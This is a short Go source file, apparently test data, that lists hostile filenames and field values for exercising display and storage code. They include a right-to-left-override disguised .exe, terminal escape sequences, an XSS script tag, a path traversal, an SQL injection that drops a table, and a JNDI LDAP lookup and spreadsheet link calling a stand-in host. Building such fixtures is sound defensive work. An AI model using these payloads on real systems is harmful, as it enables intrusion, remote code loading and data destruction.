package dataset

import "strings"

// hiddenText turns the direction of writing, hides a letter and rings a bell.
const hiddenText = "Trojan\u202egnihton\u200b\x07"

// hostileTexts are names and titles that somebody chose to hurt whoever shows them: in a terminal, a page, a spreadsheet, a
// path, or only by their length.
func hostileTexts() []string {
	return []string{
		"invoice\u202efdp.exe",                            // Reads as invoiceexe.pdf.
		"\x1b[2J\x1b[31mAll clear\x1b[0m\x00.doc",         // Clears a terminal and says so.
		"<script>alert(document.domain)</script>.html",    //
		`=HYPERLINK("http://quiet-harbor.biz","report")`,  // A formula to a spreadsheet.
		"../../../../etc/cron.d/harbor",                   //
		"' OR 1=1; DROP TABLE indicators; --",             //
		"line one\r\nline two\u2028line three\ttab",       //
		"\u200b\u200c\u200d\ufeff",                        // Nothing to see, and not empty.
		strings.Repeat("long ", 1600) + "end.exe",         // 8,000 letters.
		"Z\u0351\u036b\u0343a\u0310\u0346lgo \U0001f3f4☠", // Piled accents.
		"{{7*7}} ${jndi:ldap://quiet-harbor.biz/a} %s%n",  //
	}
}
